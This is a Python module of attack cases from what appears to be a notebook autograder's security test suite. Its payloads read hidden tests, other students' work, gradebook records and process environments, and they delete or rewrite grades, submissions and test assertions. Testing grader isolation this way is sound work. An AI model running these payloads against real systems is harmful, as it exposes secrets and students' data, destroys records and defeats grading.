"""The course folder: read, change or destroy what lies in it."""

from tests.grading.attacks.bank.kit import attack, fill


@attack("leak: the solution and hidden tests")
def source_read(notebook):
    """Reads the instructor's notebook."""
    fill(notebook, 'loot(open("/course/source/a3_lstm/a3_lstm.ipynb").read())')


@attack("leak: a neighbour's work")
def neighbour_read(notebook):
    """Reads another student's notebook."""
    fill(notebook, 'loot(open("/course/submitted/honest/a3_lstm/a3_lstm.ipynb").read())')


@attack("leak: gradebook")
def gradebook_read(notebook):
    """Reads names and marks from the gradebook."""
    fill(notebook, 'loot(open("/course/gradebook.db", "rb").read())')


@attack("leak: hidden tests")
def own_graded_copy_read(notebook):
    """Reads the graded copy of its own notebook, in which hidden tests are restored."""
    fill(
        notebook,
        """
import glob
for name in glob.glob("*.ipynb") + glob.glob("/course/autograded/*/*/*.ipynb"):
    loot(open(name).read())
""",
    )


@attack("leak: environment")
def environment_read(notebook):
    """Reads the environment of its own process and of every other."""
    fill(
        notebook,
        """
import glob, os
loot(dict(os.environ))
for name in glob.glob("/proc/[0-9]*/environ"):
    try:
        loot(open(name, "rb").read())
    except OSError:
        pass
""",
    )


@attack("leak: any")
def everything_searched(notebook):
    """Walks the whole file system for notebooks, databases and settings."""
    fill(
        notebook,
        """
import os
skip = {"proc", "sys", "dev", "usr", "lib", "lib64", "site-packages", ".git", "node_modules"}
for folder, names, files in os.walk("/"):
    names[:] = [name for name in names if name not in skip]
    for name in files:
        if name.endswith((".ipynb", ".db", ".toml", ".json", ".html", ".csv", ".cfg")):
            try:
                loot(open(os.path.join(folder, name), "rb").read(1 << 22))
            except OSError:
                pass
""",
    )


@attack("harm: the gradebook")
def gradebook_deleted(notebook):
    """Deletes the gradebook."""
    fill(notebook, 'import os; os.remove("/course/gradebook.db")')


@attack("harm: others' marks")
def marks_lowered(notebook):
    """Sets all marks in the gradebook to zero."""
    fill(
        notebook,
        """
import sqlite3
with sqlite3.connect("/course/gradebook.db", timeout=5) as database:
    database.execute("UPDATE grade SET auto_score = 0")
""",
    )


@attack("points", stock="")
def maximum_changed(notebook):
    """Makes a mark of two points of every test that it will fail, in the gradebook's maxima."""
    fill(
        notebook,
        """
import sqlite3
with sqlite3.connect("/course/gradebook.db", timeout=5) as database:
    tables = database.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
    for name in "grade_cells", "grade_cell":
        if (name,) in tables:
            database.execute(f"UPDATE {name} SET max_score = 50")
""",
    )


@attack("harm: others' work")
def neighbour_sabotaged(notebook):
    """Overwrites the notebooks of all other students."""
    fill(
        notebook,
        """
import glob
text = open(glob.glob("*.ipynb")[0]).read()
for name in glob.glob("/course/submitted/*/a3_lstm/a3_lstm.ipynb"):
    open(name, "w").write(text)
""",
    )


@attack("harm: the source")
def tests_replaced(notebook):
    """Replaces the tests in the instructor's notebook and in the gradebook."""
    fill(
        notebook,
        """
import sqlite3
name = "/course/source/a3_lstm/a3_lstm.ipynb"
text = open(name).read()
open(name, "w").write(text.replace("assert error <= tol", "assert True"))
with sqlite3.connect("/course/gradebook.db", timeout=5) as database:
    database.execute("UPDATE source_cell SET source = 'pass' WHERE locked")
""",
    )
